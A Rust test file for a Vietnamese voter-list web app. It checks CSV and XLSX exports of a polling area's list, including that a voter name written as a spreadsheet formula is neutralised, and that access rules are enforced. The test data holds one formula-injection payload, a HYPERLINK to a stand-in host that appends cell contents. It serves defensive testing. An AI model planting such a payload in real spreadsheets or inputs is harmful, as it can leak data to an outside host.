//! CSV and XLSX exports of a polling area's list over HTTP on each engine: the rows and order
//! of the official list, formula-looking cells kept as text, and the PDF's access rules.

use crate::support::api::import_request;

use crate::support::{on_each_engine, Client, TestApp};
use crate::voter_lists::{election_with_two_areas, upload};

const HOSTILE: &str = "=HYPERLINK(\"http://x.example/?q=\"&A1,\"Bấm vào đây\")";

/// Area 1 gets three voters in this order, one named like a formula; area 2 one voter.
async fn ward_with_a_hostile_name(app: &TestApp) -> (Client, [i64; 2]) {
    let admin = app.admin().await;
    let (election_id, areas) = election_with_two_areas(&admin).await;
    let csv = format!(
        "STT;Họ và tên;Ngày sinh;Giới tính;Nơi thường trú;Khu vực bỏ phiếu;Chủ hộ\r\n\
         1;Nguyễn Văn An;05/07/1960;Nam;Số 1 khóm Thới An;1;x\r\n\
         2;\"{}\";1970;Nữ;Số 1, khóm Thới An;1;\r\n\
         3;Trần Thị Hương;03/1965;Nữ;\"Số 2; khóm Thới An\";1;x\r\n\
         4;Lê Văn Đức;1962;Nam;Khóm Đông Thịnh;2;x\r\n",
        HOSTILE.replace('"', "\"\"")
    );
    let token = upload(app, &admin, election_id, "ds.csv", csv.into_bytes()).await;
    let done = admin
        .voters_import_commit(&import_request(&token, election_id))
        .await;
    assert_eq!(
        done.body.as_i64(),
        Some(4),
        "[{}] {:?}",
        app.engine,
        done.body
    );
    (admin, areas)
}

async fn fetch(
    app: &TestApp,
    client: &Client,
    path: &str,
) -> (u16, reqwest::header::HeaderMap, Vec<u8>) {
    let response = client
        .http
        .get(format!("{}{path}", app.base_url))
        .send()
        .await
        .expect("sent");
    let status = response.status().as_u16();
    let headers = response.headers().clone();
    (
        status,
        headers,
        response.bytes().await.expect("body").to_vec(),
    )
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_csv_export_is_the_official_list_with_formulas_defused() {
    on_each_engine(|app| async move {
        let (admin, areas) = ward_with_a_hostile_name(&app).await;
        let (status, headers, body) = fetch(
            &app,
            &admin,
            &format!("/voters/areas/{}/list.csv", areas[0]),
        )
        .await;
        assert_eq!(status, 200, "[{}]", app.engine);
        assert_eq!(headers["content-type"], "text/csv; charset=utf-8");
        assert!(headers["content-disposition"]
            .to_str()
            .unwrap_or_default()
            .contains("danh-sach-cu-tri-kvbp-1.csv"));
        assert!(
            body.starts_with(b"\xEF\xBB\xBF"),
            "UTF-8 with a BOM for Excel"
        );
        let text = String::from_utf8(body[3..].to_vec()).expect("UTF-8");
        let lines: Vec<&str> = text.split("\r\n").collect();
        assert_eq!(lines[0], "DANH SÁCH CỬ TRI");
        assert!(
            lines[2].starts_with("Khu vực bỏ phiếu số 1: Khóm Thới An"),
            "{}",
            lines[2]
        );
        assert!(lines[3].starts_with("STT;Họ và tên;Ngày tháng năm sinh;Nam;Nữ;"));
        assert_eq!(
            lines[4], "1;Nguyễn Văn An;05/07/1960;x;;;;Số 1 khóm Thới An;;x;x;x;",
            "[{}]",
            app.engine
        );
        // The formula-looking name gets a leading "'" and is quoted (it holds quotes).
        let expected_name = format!("\"'{}\"", HOSTILE.replace('"', "\"\""));
        assert_eq!(
            lines[5],
            format!("2;{expected_name};1970;;x;;;Số 1, khóm Thới An;;x;x;x;"),
            "[{}]",
            app.engine
        );
        assert!(lines[6].starts_with("3;Trần Thị Hương;03/1965;;x;;;\"Số 2; khóm Thới An\";"));
        assert_eq!(
            lines[7],
            "\"Tổng số cử tri của khu vực bỏ phiếu là: 3 người; trong đó có: 1 Nam; 2 Nữ.\""
        );
        assert!(!text.contains("Lê Văn Đức"), "only the area's own voters");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_xlsx_export_holds_the_same_rows_as_string_cells() {
    on_each_engine(|app| async move {
        let (admin, areas) = ward_with_a_hostile_name(&app).await;
        let (status, headers, body) = fetch(
            &app,
            &admin,
            &format!("/voters/areas/{}/list.xlsx", areas[0]),
        )
        .await;
        assert_eq!(status, 200, "[{}]", app.engine);
        assert_eq!(
            headers["content-type"],
            "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"
        );
        // Read back with the importer's own reader: what a list office would re-import.
        let table = app::import::xlsx::read_xlsx(&body, None, None).expect("a valid workbook");
        let names: Vec<&str> = table.rows[4..7].iter().map(|r| r[1].as_str()).collect();
        // A formula cell would read back as its cached value; the name comes back as written.
        assert_eq!(
            names,
            ["Nguyễn Văn An", HOSTILE, "Trần Thị Hương"],
            "[{}]",
            app.engine
        );
        let stt: Vec<&str> = table.rows[4..7].iter().map(|r| r[0].as_str()).collect();
        assert_eq!(stt, ["1", "2", "3"]);
        assert_eq!(table.rows[5][4], "x", "Nữ ticked");
        let csv = fetch(
            &app,
            &admin,
            &format!("/voters/areas/{}/list.csv", areas[0]),
        )
        .await
        .2;
        let csv_rows = String::from_utf8(csv[3..].to_vec())
            .expect("UTF-8")
            .split("\r\n")
            .count()
            - 1;
        assert_eq!(table.rows.len(), csv_rows, "the same rows as the CSV");
    })
    .await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn exports_follow_the_list_pdf_access_rules() {
    on_each_engine(|app| async move {
        let (admin, areas) = ward_with_a_hostile_name(&app).await;
        let station = app.user_with_role(&admin, "tobaucu1", "station").await;
        let anonymous = app.client();
        for suffix in ["csv", "xlsx", "pdf"] {
            let path = format!("/voters/areas/{}/list.{suffix}", areas[0]);
            let (status, _, body) = fetch(&app, &station, &path).await;
            assert_eq!(status, 403, "[{}] station: {path}", app.engine);
            assert!(String::from_utf8_lossy(&body).contains("không có quyền"));
            let (status, headers, _) = fetch(&app, &anonymous, &path).await;
            assert_eq!(status, 303, "[{}] signed out: {path}", app.engine);
            assert_eq!(headers["location"], "/login");
        }
        for suffix in ["csv", "xlsx"] {
            let (status, _, _) =
                fetch(&app, &admin, &format!("/voters/areas/999999/list.{suffix}")).await;
            assert_eq!(status, 404, "[{}] unknown area", app.engine);
        }
    })
    .await;
}
